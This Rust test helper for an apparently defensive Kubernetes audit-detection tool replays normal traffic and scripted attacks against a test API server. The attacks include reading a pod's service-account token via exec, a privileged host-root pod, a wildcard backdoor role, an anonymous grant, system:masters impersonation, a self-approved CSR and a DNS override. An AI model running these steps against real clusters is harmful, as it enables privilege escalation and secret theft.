//! Attack steps and normal traffic against a real API server, as different
//! identities, for the tests of the rules over real audit events.

#![allow(dead_code)]

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

use kube::config::{KubeConfigOptions, Kubeconfig};
use kube::Client;
use kubefort_testenv::TestEnv;
use serde_json::{json, Value};

/// The recommended audit policy shipped in deploy/.
pub const POLICY: &str = include_str!("../../../../deploy/audit-policy.yaml");

pub fn b64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A request; the answer's body, or the error (refusals are expected).
pub async fn call(
    client: &Client,
    method: &str,
    uri: &str,
    body: Option<Value>,
    content_type: &str,
    user_agent: Option<&str>,
) -> Result<String, String> {
    let mut req = http::Request::builder().method(method).uri(uri);
    if body.is_some() {
        req = req.header("content-type", content_type);
    }
    if let Some(ua) = user_agent {
        req = req.header("user-agent", ua);
    }
    let req = req
        .body(body.map(|b| b.to_string().into_bytes()).unwrap_or_default())
        .unwrap();
    client.request_text(req).await.map_err(|e| e.to_string())
}

pub async fn post(client: &Client, uri: &str, body: Value) -> Result<String, String> {
    call(client, "POST", uri, Some(body), "application/json", None).await
}

pub async fn get(client: &Client, uri: &str) -> Result<String, String> {
    call(client, "GET", uri, None, "", None).await
}

/// A client for a bearer token (or none: anonymous).
pub async fn token_client(env: &TestEnv, token: Option<&str>) -> Client {
    let ca = env.dir().join("ca.crt");
    let user = token.map_or_else(|| "    {}\n".to_string(), |t| format!("    token: {t}\n"));
    let kc = format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- name: t\n  cluster:\n    server: {}\n    certificate-authority: {}\nusers:\n- name: u\n  user:\n{user}contexts:\n- name: t\n  context:\n    cluster: t\n    user: u\ncurrent-context: t\n",
        env.url,
        ca.display(),
    );
    let kc = Kubeconfig::from_yaml(&kc).unwrap();
    let config = kube::Config::from_custom_kubeconfig(kc, &KubeConfigOptions::default())
        .await
        .unwrap();
    Client::try_from(config).unwrap()
}

fn pod(name: &str, sa: &str, extra_spec: Value) -> Value {
    let mut spec = json!({
        "nodeName": "node-1",
        "serviceAccountName": sa,
        "containers": [{"name": "app", "image": "registry.example.com/shop/cart:1.4.2"}]
    });
    if let (Some(s), Some(e)) = (spec.as_object_mut(), extra_spec.as_object()) {
        for (k, v) in e {
            s.insert(k.clone(), v.clone());
        }
    }
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "shop"}, "spec": spec})
}

/// What `run_scenario` expects to be reported: (user, rule).
pub fn expected() -> BTreeSet<(String, String)> {
    [
        ("kubefort-admin", "audit-cluster-admin-binding"),
        ("eve", "audit-pod-exec"),
        ("eve", "audit-pod-port-forward"),
        ("eve", "audit-ephemeral-container"),
        ("eve", "audit-privileged-pod"),
        ("eve", "audit-sensitive-mount-pod"),
        ("eve", "audit-host-namespace-pod"),
        ("mallory", "audit-role-wildcard"),
        ("mallory", "audit-role-escalation-verbs"),
        ("mallory", "audit-anonymous-binding"),
        ("jane", "audit-impersonation"),
        ("mallory", "audit-sa-token-request"),
        ("mallory", "audit-csr-approval"),
        ("mallory", "audit-nodes-proxy"),
        ("mallory", "audit-admission-webhook-change"),
        ("mallory", "audit-kube-system-change"),
        ("mallory", "audit-secret-access"),
        ("system:anonymous", "audit-anonymous-allowed"),
        ("system:serviceaccount:shop:cart", "audit-secret-access"),
        (
            "system:serviceaccount:shop:cart",
            "audit-sa-token-unexpected-client",
        ),
        (
            "system:serviceaccount:shop:cart",
            "audit-permission-enumeration",
        ),
        ("intruder", "audit-forbidden-burst"),
        // Refused attempts on secrets are reported too (one step lower).
        ("intruder", "audit-secret-access"),
    ]
    .into_iter()
    .map(|(u, r)| (u.to_string(), r.to_string()))
    .collect()
}

/// Normal traffic (the admin setting up an application, a kubelet, a
/// controller, a workload reading what it mounts) and every attack step.
pub async fn run_scenario(env: &TestEnv) {
    let admin = env.client().await.unwrap();

    // --- Normal: an application and its permissions.
    post(
        &admin,
        "/api/v1/namespaces",
        json!({"apiVersion":"v1","kind":"Namespace","metadata":{"name":"shop"}}),
    )
    .await
    .unwrap();
    post(
        &admin,
        "/api/v1/namespaces/shop/serviceaccounts",
        json!({"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"cart"}}),
    )
    .await
    .unwrap();
    for name in ["cart-db", "payments-key"] {
        post(&admin, "/api/v1/namespaces/shop/secrets", json!({"apiVersion":"v1","kind":"Secret","metadata":{"name":name},"stringData":{"password":"s3cr3t"}})).await.unwrap();
    }
    post(&admin, "/api/v1/namespaces/shop/configmaps", json!({"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"cart-config"},"data":{"LOG_LEVEL":"info","DB_HOST":"db.shop.svc"}})).await.unwrap();
    post(&admin, "/apis/apps/v1/namespaces/shop/deployments", json!({
        "apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web"},
        "spec":{"replicas":2,"selector":{"matchLabels":{"app":"web"}},"template":{"metadata":{"labels":{"app":"web"}},
        "spec":{"containers":[{"name":"web","image":"registry.example.com/shop/web:2.0.1","securityContext":{"allowPrivilegeEscalation":false,"runAsNonRoot":true}}]}}}
    })).await.unwrap();
    post(
        &admin,
        "/api/v1/namespaces/shop/pods",
        pod(
            "cart-1",
            "cart",
            json!({
                "volumes":[{"name":"db","secret":{"secretName":"cart-db"}}]
            }),
        ),
    )
    .await
    .unwrap();
    post(
        &admin,
        "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles",
        json!({
            "apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"cart"},
            "rules":[{"apiGroups":[""],"resources":["secrets","configmaps"],"verbs":["get"]}]
        }),
    )
    .await
    .unwrap();
    post(&admin, "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"cart"},
        "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"cart"},
        "subjects":[{"kind":"ServiceAccount","name":"cart","namespace":"shop"}]
    })).await.unwrap();
    // eve is a developer of the shop (the built-in edit permissions).
    post(&admin, "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"developers"},
        "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"system:aggregate-to-edit"},
        "subjects":[{"kind":"User","name":"eve","apiGroup":"rbac.authorization.k8s.io"}]
    })).await.unwrap();
    get(&admin, "/api/v1/namespaces/shop/pods").await.unwrap();
    get(&admin, "/apis/apps/v1/namespaces/shop/deployments/web")
        .await
        .unwrap();

    // --- Normal: the kubelet of node-1 gets the pod's token, as it does for every pod.
    let pod_uid = serde_json::from_str::<Value>(
        &get(&admin, "/api/v1/namespaces/shop/pods/cart-1")
            .await
            .unwrap(),
    )
    .unwrap()["metadata"]["uid"]
        .as_str()
        .unwrap()
        .to_string();
    let node = env
        .client_as("system:node:node-1", &["system:nodes"])
        .await
        .unwrap();
    let tr = post(&node, "/api/v1/namespaces/shop/serviceaccounts/cart/token", json!({
        "apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest",
        "spec":{"expirationSeconds":3600,"boundObjectRef":{"apiVersion":"v1","kind":"Pod","name":"cart-1","uid":pod_uid}}
    })).await.expect("the kubelet requests the pod's token");
    let token = serde_json::from_str::<Value>(&tr).unwrap()["status"]["token"]
        .as_str()
        .unwrap()
        .to_string();
    get(&node, "/api/v1/namespaces/shop/pods/cart-1").await.ok();

    // --- Normal: a controller at work.
    let kcm = env
        .client_as("system:kube-controller-manager", &[])
        .await
        .unwrap();
    get(&kcm, "/api/v1/secrets").await.ok();
    get(&kcm, "/api/v1/namespaces/shop/secrets/cart-db")
        .await
        .ok();
    post(&kcm, "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases", json!({
        "apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"kube-controller-manager"},
        "spec":{"holderIdentity":"kcm-1","leaseDurationSeconds":15}
    })).await.ok();

    // --- Normal: the workload reads what it mounts, with its client.
    let cart = token_client(env, Some(&token)).await;
    get(&cart, "/api/v1/namespaces/shop/secrets/cart-db")
        .await
        .expect("cart reads its secret");
    get(&cart, "/api/v1/namespaces/shop/configmaps/cart-config")
        .await
        .expect("cart reads its config");

    // --- Attack: the workload's token misused.
    get(&cart, "/api/v1/namespaces/shop/secrets/payments-key")
        .await
        .expect("cart may read any secret of shop");
    post(&cart, "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", json!({
        "apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}
    })).await.unwrap();
    call(
        &cart,
        "GET",
        "/api/v1/namespaces/shop/secrets/cart-db",
        None,
        "",
        Some("python-requests/2.32.3"),
    )
    .await
    .ok();

    // --- Attack: eve, a developer, goes for the node.
    let eve = env.client_as("eve", &["developers"]).await.unwrap();
    call(&eve, "POST", "/api/v1/namespaces/shop/pods/cart-1/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true&container=app", None, "", None).await.ok();
    call(
        &eve,
        "POST",
        "/api/v1/namespaces/shop/pods/cart-1/portforward?ports=5432",
        None,
        "",
        None,
    )
    .await
    .ok();
    call(&eve, "PATCH", "/api/v1/namespaces/shop/pods/cart-1/ephemeralcontainers",
        Some(json!({"spec":{"ephemeralContainers":[{"name":"debugger","image":"docker.io/library/busybox:1.36","command":["sh"],"stdin":true,"tty":true}]}})),
        "application/strategic-merge-patch+json", None).await.ok();
    post(&eve, "/api/v1/namespaces/shop/pods", pod("root-me", "default", json!({
        "hostPID": true,
        "containers":[{"name":"x","image":"docker.io/library/alpine:3.20","securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],
        "volumes":[{"name":"host","hostPath":{"path":"/"}}]
    }))).await.expect("eve creates a privileged pod");

    // --- Attack: cluster-admin for mallory, and what mallory does with it.
    post(&admin, "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"mallory-admin"},
        "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},
        "subjects":[{"kind":"User","name":"mallory","apiGroup":"rbac.authorization.k8s.io"}]
    })).await.unwrap();
    let mallory = env.client_as("mallory", &[]).await.unwrap();
    // RBAC: wildcards, escalation verbs, a grant to anonymous users.
    post(&mallory, "/apis/rbac.authorization.k8s.io/v1/clusterroles", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"backdoor"},
        "rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]
    })).await.unwrap();
    post(&mallory, "/apis/rbac.authorization.k8s.io/v1/clusterroles", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"role-manager"},
        "rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]},
                 {"apiGroups":[""],"resources":["users","groups"],"verbs":["impersonate"]}]
    })).await.unwrap();
    post(&mallory, "/apis/rbac.authorization.k8s.io/v1/clusterroles", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"public-pods"},
        "rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["list"]}]
    })).await.unwrap();
    post(&mallory, "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", json!({
        "apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"public-pods"},
        "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"public-pods"},
        "subjects":[{"kind":"Group","name":"system:unauthenticated","apiGroup":"rbac.authorization.k8s.io"}]
    })).await.unwrap();
    // Impersonation of a member of system:masters.
    call(
        &mallory,
        "GET",
        "/api/v1/namespaces/default",
        None,
        "",
        None,
    )
    .await
    .ok();
    let mut req = http::Request::get("/api/v1/namespaces/default")
        .header("Impersonate-User", "jane")
        .header("Impersonate-Group", "system:masters")
        .body(Vec::new())
        .unwrap();
    req.headers_mut()
        .insert("accept", "application/json".parse().unwrap());
    mallory
        .request_text(req)
        .await
        .expect("mallory impersonates jane");
    // A token for the workload's account.
    post(&mallory, "/api/v1/namespaces/shop/serviceaccounts/cart/token", json!({
        "apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":600000}
    })).await.expect("mallory mints a token");
    // A client certificate claiming system:masters, approved by herself.
    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "backup-admin");
    params
        .distinguished_name
        .push(rcgen::DnType::OrganizationName, "cluster-operators");
    let csr_pem = params.serialize_request(&key).unwrap().pem().unwrap();
    let csr = post(&mallory, "/apis/certificates.k8s.io/v1/certificatesigningrequests", json!({
        "apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"backup-admin"},
        "spec":{"request": b64(csr_pem.as_bytes()),"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"],"expirationSeconds":86400}
    })).await.expect("mallory creates a CSR");
    let mut csr: Value = serde_json::from_str(&csr).unwrap();
    csr["status"] = json!({"conditions":[{"type":"Approved","status":"True","reason":"Backup","message":"approved"}]});
    call(
        &mallory,
        "PUT",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests/backup-admin/approval",
        Some(csr),
        "application/json",
        None,
    )
    .await
    .expect("mallory approves her CSR");
    // The kubelet API through the API server.
    get(
        &mallory,
        "/api/v1/nodes/node-1/proxy/run/shop/cart-1/app?cmd=id",
    )
    .await
    .ok();
    // Admission control: a webhook added, then removed.
    post(&mallory, "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations", json!({
        "apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingWebhookConfiguration","metadata":{"name":"audit-sink"},
        "webhooks":[{"name":"sink.example.com","clientConfig":{"url":"https://127.0.0.1:1/validate"},
            "rules":[{"apiGroups":["example.com"],"apiVersions":["v1"],"operations":["CREATE"],"resources":["widgets"]}],
            "failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]
    })).await.unwrap();
    call(
        &mallory,
        "DELETE",
        "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/audit-sink",
        None,
        "",
        None,
    )
    .await
    .unwrap();
    // kube-system, and every secret of the cluster.
    post(&mallory, "/api/v1/namespaces/kube-system/configmaps", json!({
        "apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"coredns-custom"},"data":{"override":"forward . 203.0.113.7"}
    })).await.unwrap();
    get(&mallory, "/api/v1/secrets").await.unwrap();

    // --- Attack: anonymous access through mallory's binding.
    let anon = token_client(env, None).await;
    get(&anon, "/api/v1/pods")
        .await
        .expect("anonymous users list pods");

    // --- Attack: reconnaissance with a credential that can do nothing.
    let intruder = env.client_as("intruder", &[]).await.unwrap();
    for uri in [
        "/api/v1/namespaces/default/pods",
        "/api/v1/namespaces/kube-system/pods",
        "/api/v1/namespaces/shop/pods",
        "/api/v1/secrets",
        "/api/v1/namespaces/kube-system/secrets",
        "/api/v1/nodes",
        "/apis/rbac.authorization.k8s.io/v1/clusterroles",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "/apis/apps/v1/deployments",
        "/api/v1/configmaps",
        "/api/v1/serviceaccounts",
        "/apis/apps/v1/daemonsets",
    ] {
        assert!(
            get(&intruder, uri).await.is_err(),
            "{uri} is forbidden to the intruder"
        );
    }
}

/// Wait until `path` holds a line containing `needle`.
pub async fn wait_for_line(path: &Path, needle: &str) {
    for _ in 0..100 {
        if std::fs::read_to_string(path).is_ok_and(|s| s.contains(needle)) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("{} never contained {needle}", path.display());
}
